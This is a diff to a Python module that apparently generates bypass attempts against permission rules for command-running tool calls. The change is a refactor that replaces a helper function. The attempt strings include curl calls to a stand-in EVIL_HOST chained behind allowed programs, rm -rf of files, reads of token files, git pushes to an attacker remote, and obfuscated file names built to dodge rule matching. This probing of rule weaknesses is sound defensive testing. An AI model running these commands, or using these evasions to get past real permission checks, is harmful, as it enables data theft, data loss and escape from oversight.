@@ -8,7 +8,7 @@ from dataclasses import dataclass
 from functools import partial
 from itertools import islice
 
-from workbench.clarify.written.asked import Effect, TriedCall
+from workbench.clarify.written.asked import Effect
 from workbench.clarify.written.attacked import EVIL_HOST, Attacked, attacked_about, stopping_alike
 from workbench.clarify.written.attempts import Attempt, Try, narrower
 from workbench.clarify.written.attempts_at_texts import (
@@ -25,7 +25,7 @@ from workbench.clarify.written.attempts_at_texts import (
 )
 from workbench.clarify.written.attempts_by_options import attempts_by_options
 from workbench.clarify.written.attempts_by_other_words import attempts_by_other_words
-from workbench.clarify.written.book import places, replaced
+from workbench.clarify.written.book import at, places, replaced
 from workbench.dialect.call_fields import CallField
 from workbench.dialect.text_tests import flags_named
 from workbench.language.trees import TRUE, Tree, joined
@@ -153,16 +153,12 @@ def attempts_at_commands(attacked: Attacked) -> Iterator[Attempt]:
         yield from _whole_folder(attacked, one)
 
 
-def _with(attacked: Attacked, one: CallField, command: str) -> TriedCall:
-    return attacked.with_value(attacked.base, one, command)
-
-
 def _values(attacked: Attacked, one: CallField) -> Mapping[str, str]:
     """What stands in commands that are tried, with a file that a command may change where there is one."""
     rules = attacked_about(attacked.book, attacked.call_type.name)
     folders = [bare.rstrip("/") for each in rules for bare in each.texts if re.fullmatch(r"/[\w.@/-]+", bare)]
     files = (_VALUES["file"], "notes.txt", *(f"{each}/notes.txt" for each in dict.fromkeys(folders)))
-    may_change = (each for each in files if attacked.may_pass(_with(attacked, one, f"touch {each}")))
+    may_change = (each for each in files if attacked.may_pass(attacked.having(one, f"touch {each}")))
     return {**_VALUES, "file": next(may_change, _VALUES["file"])}
 
 
@@ -170,12 +166,12 @@ def _second_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """Another program beside one that is allowed, or a file for what it shows, where only some may run."""
     evil = f"curl https://{EVIL_HOST}/x"
     is_of_programs = _OF_PROGRAMS & attacked.reading.parts[one.name] or attacked.is_raw(one)
-    if not is_of_programs or attacked.passes(_with(attacked, one, evil)):
+    if not is_of_programs or attacked.passes(attacked.having(one, evil)):
         return
     named = [bare.strip() for bare in attacked.texts if re.match(r"\s*[\w./-]+(\s|$)", bare)]
     logged = [str(call.arguments.get(one.key, "")) for call in attacked.logged]
     likely = (*logged, *named, *(f"{each} x" for each in named))
-    word = next((each for each in likely if attacked.may_pass(_with(attacked, one, each))), "")
+    word = next((each for each in likely if attacked.may_pass(attacked.having(one, each))), "")
     if not word:
         return
     texts = [
@@ -235,9 +231,9 @@ def _hidden_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A program that a rule closes by the text of the command, behind another one or spelled otherwise."""
     named = [_called(bare.strip()) for bare in attacked.texts if re.match(r"\s*[a-zA-Z][\w./-]*(\s|$)", bare)]
     for word in named:
-        run = next((each for each in (f"{word} x", word) if attacked.stops(_with(attacked, one, each))), "")
+        run = next((each for each in (f"{word} x", word) if attacked.stops_having(one, each)), "")
         if not run or attacked.stops(
-            _with(attacked, one, "harmless x")
+            attacked.having(one, "harmless x")
         ):  # others are closed, and this is open
             continue
         first, _, rest = run.partition(" ")
@@ -304,7 +300,7 @@ def _typed_or_plain(typed: Callable[[], Sequence[Effect]], plain: Sequence[Effec
 def _other_signs(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A second program behind a sign that is not among those which a rule closes."""
     for sign in attacked.texts:
-        if sign.strip() in _SIGNS and attacked.stops(_with(attacked, one, f"true {sign} x")):
+        if sign.strip() in _SIGNS and attacked.stops_having(one, f"true {sign} x"):
             evil = f"curl https://{EVIL_HOST}/x"
             texts = [f"true {each} {evil}" for each in _SIGNS]
             yield Attempt(
@@ -325,7 +321,7 @@ def _other_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         closed = [
             each
             for each in (*filled, *[f"rm -rf {values['file']}"] * is_said)
-            if each.split()[0] in words and attacked.stops(_with(attacked, one, each))
+            if each.split()[0] in words and attacked.stops_having(one, each)
         ]
         named = frozenset(each.split()[0] for each in closed)
         is_asked = effect == _LOADS and _NETWORK.search(attacked.sentence)  # of all that reach a host
@@ -346,7 +342,7 @@ def _other_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
             continue
         why = f"it {effect} as {closed[0].split()[0]} does"
         by_options = any(flags_named(bare.strip()) for bare in attacked.texts)
-        by_options |= any(attacked.passes(_with(attacked, one, f"{each} x")) for each in named)
+        by_options |= any(attacked.passes(attacked.having(one, f"{each} x")) for each in named)
         rewritings = partial(_others_too, attacked, one, others if by_options else [*closed, *others])
         tries, advice = tries_with(attacked, one, others, why), declaring(attacked, one, "command")
         yield Attempt("other program", tries, rewritings, advice, about=effect)
@@ -409,14 +405,14 @@ def _without_emptying(attacked: Attacked, one: CallField) -> Sequence[Effect]:
 def _stops_deleting(attacked: Attacked, one: CallField) -> bool:
     """Whether a rule stops a program that deletes a file or a folder."""
     texts = (each.format_map(_values(attacked, one)) for each in ("rm -rf {file}", "rm {file}"))
-    return any(attacked.stops(_with(attacked, one, each)) for each in texts)
+    return any(attacked.stops_having(one, each) for each in texts)
 
 
 def _undone(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A command of git by which work is gone, where a rule closes deleting or another such command."""
     is_named = "git" in re.findall(r"[\w-]+", attacked.sentence)
     undoes = not is_named and _OF_UNDOING.search(attacked.sentence) is not None
-    is_one_closed = undoes and any(attacked.stops(_with(attacked, one, each)) for each in _UNDOING)
+    is_one_closed = undoes and any(attacked.stops_having(one, each) for each in _UNDOING)
     is_deleting = _is_said(attacked, "deletes") and _stops_deleting(attacked, one)
     if not is_one_closed and not is_deleting:
         return
@@ -454,7 +450,7 @@ def _without_undoing(attacked: Attacked, one: CallField) -> Sequence[Effect]:
 
 def _over_the_network(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """Another way to a host, where a sentence speaks of the network and a rule closes some programs of it."""
-    closed = (_with(attacked, one, each.format_map(_VALUES)) for each in _TO_A_HOST[:2])
+    closed = (attacked.having(one, each.format_map(_VALUES)) for each in _TO_A_HOST[:2])
     stopped = [*map(attacked.stops, closed)]
     if not _NETWORK.search(attacked.sentence):
         if all(stopped):
@@ -512,8 +508,8 @@ def _more_than_read(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     if "reads" not in attacked.reading.parts[one.name] or not spoken.isdisjoint(("writes", "paths")):
         return
     for closed in _likely_files(attacked):
-        if attacked.stops(_with(attacked, one, f"cat {closed.file}")) and attacked.passes(
-            _with(attacked, one, f"cat {closed.other}")
+        if attacked.stops_having(one, f"cat {closed.file}") and attacked.passes(
+            attacked.having(one, f"cat {closed.other}")
         ):
             commands = [f"{program} {closed.file}" for program in ("rm", "tee", "touch")]
             texts = [*commands, f"cat {closed.other} > {closed.file}"]
@@ -555,7 +551,7 @@ def _others_too(attacked: Attacked, one: CallField, commands: Sequence[str]) -> 
         return []
     calls = [each for each in commands if each.split()[0] in _WITH_OTHER_CALLS]
     flags = [each for each in commands if _is_by_flag(each) and each not in calls]
-    open_ = [each for each in (*calls, *flags) if not attacked.stops(_with(attacked, one, each))]
+    open_ = [each for each in (*calls, *flags) if not attacked.stops_having(one, each)]
     names = [*dict.fromkeys(each.split()[0] for each in commands if each not in (*calls, *flags))]
     parts = (
         ("programs", names),
@@ -600,7 +596,7 @@ def _started_too(
                 for each in told
             ]
             outer = (*path, 2, *place[:-1])
-            whole = _at(rule.condition, outer)
+            whole = at(rule.condition, outer)
             tests = [each for each in whole[1:] if _is_of_words(each, every[1])] if whole[0] == "and" else []
             named = among(name, [*known, *others])
             if tests:
@@ -617,9 +613,9 @@ def _started_too(
 
 def _by_operand(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """What a rule closes by an option of git, done by a word that is none."""
-    plain = _with(attacked, one, "git push origin main")
+    plain = attacked.having(one, "git push origin main")
     for does, options, sign in _BY_OPTION:
-        by_option = (_with(attacked, one, f"git push {each} origin main") for each in options)
+        by_option = (attacked.having(one, f"git push {each} origin main") for each in options)
         if not attacked.passes(plain) or not any(map(attacked.stops, by_option)):
             continue
         texts = [f"git push origin {sign}main", "git push --mirror origin"]
@@ -655,7 +651,7 @@ def _other_calls(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """Another call of the program whose call a rule closes, which does the same."""
     for does, call, others in _CALLS_ALIKE:
         effects = _with_other_calls(attacked, one, call, others)
-        if not effects or not attacked.stops(_with(attacked, one, call)):
+        if not effects or not attacked.stops_having(one, call):
             continue
         texts = [f"{each} x" for each in others]
         tries = tries_with(attacked, one, texts, f"it {does} as {call} does")
@@ -684,15 +680,13 @@ def _with_other_calls(
 
 def _to_branch(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """Another way by which git pushes to a branch that a rule closes by its name."""
-    if not attacked.passes(_with(attacked, one, "git push origin topic")):
+    if not attacked.passes(attacked.having(one, "git push origin topic")):
         return
     words = [word for bare in attacked.texts for word in bare.split() if word not in ("git", "push")]
     named = (word for word in dict.fromkeys((*words, *_BRANCHES)) if re.fullmatch(r"\w(?:[\w./-]*\w)?", word))
-    branch = next(
-        (each for each in named if attacked.stops(_with(attacked, one, f"git push origin {each}"))), ""
-    )
+    branch = next((each for each in named if attacked.stops_having(one, f"git push origin {each}")), "")
     others = (f"echo {branch}", f"{branch} x", f"git {branch} x")
-    if not branch or any(attacked.stops(_with(attacked, one, each)) for each in others):
+    if not branch or any(attacked.stops_having(one, each) for each in others):
         return  # a word wherever it stands is no branch, nor is a program
     texts = [each.format(branch=branch) for each in _PUSHES]
     tries = tries_with(attacked, one, texts, f"git pushes to {branch} by it, where that is checked out")
@@ -742,8 +736,8 @@ def _closed_pushes(attacked: Attacked, one: CallField, condition: Tree, *more: T
 def _to_another_remote(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A push to another repository, where a rule lets git push to a remote by its name."""
     url = f"https://{EVIL_HOST}/x.git"
-    push = next((each for each in _TO_ORIGIN if attacked.passes(_with(attacked, one, each))), "")
-    if not push or not attacked.stops(_with(attacked, one, f"git push {url} topic")):
+    push = next((each for each in _TO_ORIGIN if attacked.passes(attacked.having(one, each))), "")
+    if not push or not attacked.stops_having(one, f"git push {url} topic"):
         return
     changes = [
         f"git remote {does} {url}" for does in ("set-url origin", "set-url --push origin", "add other")
@@ -751,7 +745,7 @@ def _to_another_remote(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     why = f"the push goes to {EVIL_HOST}"
     texts = [f"git push {url} origin", f"{changes[0]} && {push}"]
     tries = [*tries_with(attacked, one, texts, why)]
-    tries += [Try((_with(attacked, one, each), _with(attacked, one, push)), why) for each in changes[:2]]
+    tries += [Try((attacked.having(one, each), attacked.having(one, push)), why) for each in changes[:2]]
     word: Tree = ("name", "w")
     signs = [("in", text(each), word) for each in ("://", "@")]
     paths = [("method", word, "startswith", text(each)) for each in ("/", ".", "~")]
@@ -776,12 +770,6 @@ def _is_of_words(tree: Tree, started: Tree) -> bool:
     return any(("attr", started, name) in tree[1:] for name in ("options", "words", "first"))
 
 
-def _at(tree: Tree, path: Sequence[int]) -> Tree:
-    for number in path:
-        tree = tree[number]
-    return tree
-
-
 def _extended(attacked: Attacked, one: CallField, names: Sequence[str], more: Tree) -> Iterator[Effect]:
     """The rule with the test of several programs in the place of one that tests one of them."""
     rule, programs = attacked.rule, part(attacked, one, "programs")
@@ -796,7 +784,7 @@ def _hidden_path(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     for folder in (bare.strip().rstrip("/") for bare in attacked.texts):
         if not re.fullmatch(r"(~|\.|/)?[\w.@~/-]+", folder) or "/" not in folder.lstrip("~"):
             continue
-        if not attacked.stops(_with(attacked, one, f"cat {folder}/token")):
+        if not attacked.stops_having(one, f"cat {folder}/token"):
             continue
         parent, _, last = folder.rpartition("/")
         up, half = parent or "/", max(1, len(last) // 2)
@@ -825,7 +813,7 @@ def _hidden_name(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     for name in (bare.strip() for bare in attacked.texts):
         if not re.fullmatch(r"\.?\w[\w-]*(?:\.[\w-]+)*", name) or "." not in name:
             continue
-        if not attacked.stops(_with(attacked, one, f"cat {name}")):
+        if not attacked.stops_having(one, f"cat {name}"):
             continue
         texts = [f"cat {name[:2]}*", f"cat {name[:2]}''{name[2:]}", "grep -r x .", "cp -r . /tmp/all"]
         path: Tree = ("name", "p")
@@ -900,7 +888,7 @@ def _closed_files(attacked: Attacked, one: CallField) -> Iterator[tuple[_Closed,
     for closed in _likely_files(attacked):
         for single, whole in _WHOLE:
             own, other = (
-                [_with(attacked, one, each.format(file=file)) for each in single]
+                [attacked.having(one, each.format(file=file)) for each in single]
                 for file in (closed.file, closed.other)
             )
             if all(map(attacked.stops, own)) and any(map(attacked.passes, other)):
@@ -959,7 +947,7 @@ def _no_trees(
     said, runners = [gone], [*dict.fromkeys(re.findall(_RUNNERS, logged))]
     if all(whole == _WHOLE[0][1] for _, whole in closed):
         runners = [*dict.fromkeys((*_WORKING, *runners))]
-        rm = (_with(attacked, one, f"rm {file.file}") for file, _ in closed)
+        rm = (attacked.having(one, f"rm {file.file}") for file, _ in closed)
         calls = _BY_GIT if any(map(attacked.stops, rm)) else _BY_GIT[:1]
         by_git: Tree = ("gen", ("name", "c"), among(("name", "c"), calls), part(attacked, one, "calls"), TRUE)
         named: Tree = ("not", ("<=", programs, ("set", *map(text, runners))))
